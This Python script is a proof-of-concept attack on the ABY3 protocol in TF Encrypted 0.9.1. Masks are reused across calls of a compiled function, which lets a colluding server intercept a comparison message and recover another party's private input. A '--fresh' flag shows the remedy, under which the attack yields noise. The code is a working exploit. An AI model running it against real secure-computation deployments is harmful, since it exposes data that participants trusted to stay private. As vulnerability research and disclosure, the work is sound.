"""The attack that masks reused over calls allow, on TF Encrypted 0.9.1's ABY3 as it is.

A compiled ABY3 function draws its masks from nonces that are counted while it is traced, and
constant afterwards: every call uses the same masks. In a comparison, server 0 sends server 2 the
word (x0 + x1) ⊕ a; server 2 holds x2. If two calls use the same a, server 2, which knows one x
because it is a client itself, learns the other:

    (x0 + x1) ⊕ a  ⊕  (x0' + x1') ⊕ a  =  (x - x2) ⊕ (x' - x2')

    python aby3_attack.py RESULT.json [--fresh]

`--fresh` draws new keys for every call, which is the remedy: the same attack then yields noise.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import numpy as np

import tfe_ops
from securemodel_share.tfe.compat import tf, tfe

KEYS = ("pairwise_keys_", "pairwise_nonces_", "b2a_keys_1_", "b2a_keys_2_", "b2a_nonce_")


def listen(protocol: tfe.protocol.ABY3) -> dict[str, tf.Tensor]:
    """Keeps what server 2 holds when a comparison begins.

    `word`: what server 0 sent it; `share`: its own share.
    """
    seen: dict[str, tf.Tensor] = {}
    carry = protocol.carry

    def overheard(first: object, second: object, pos: int | None = None) -> object:
        seen["word"], seen["share"] = first.unwrapped[2][1].value, second.unwrapped[2][0].value
        return carry(first, second, pos=pos)

    protocol.carry = overheard
    return seen


def main(result: Path, fresh: bool) -> None:
    tfe_ops.install()
    tfe.set_config(tfe.LocalConfig(player_names=["server0", "server1", "server2"]))
    protocol = tfe.protocol.ABY3()
    tfe.set_protocol(protocol)
    seen = listen(protocol)

    @tfe.function
    def relu(x: tfe.protocol.ABY3PrivateTensor) -> list[tf.Tensor]:
        kept = {name: getattr(protocol, name) for name in KEYS}
        if fresh:
            protocol.reset()
        y = tfe.relu(x).reveal().to_native()
        for name, value in kept.items():
            setattr(protocol, name, value)
        return [y, seen["word"], seen["share"]]

    rng = np.random.default_rng(1)
    known, victim = rng.normal(size=(2, 32))
    (y, word, share), (y_victim, word_victim, share_victim) = (
        [part.numpy() for part in relu(tfe.define_private_variable(x))] for x in (known, victim)
    )
    scale = protocol.fixedpoint_config.scaling_factor
    with np.errstate(over="ignore"):  # x > 0 is computed as the sign of -x
        mask = word ^ (-(known * scale).astype(np.int64) - share)
        recovered = -((word_victim ^ mask) + share_victim) / scale

    computed, right = np.stack([y, y_victim]), np.maximum([known, victim], 0)
    outcome = {
        "error": float(np.abs(computed - right).max()),
        "victim": victim.tolist(),
        "recovered": recovered.tolist(),
    }
    result.write_text(json.dumps(outcome))


if __name__ == "__main__":
    main(Path(sys.argv[1]), "--fresh" in sys.argv)
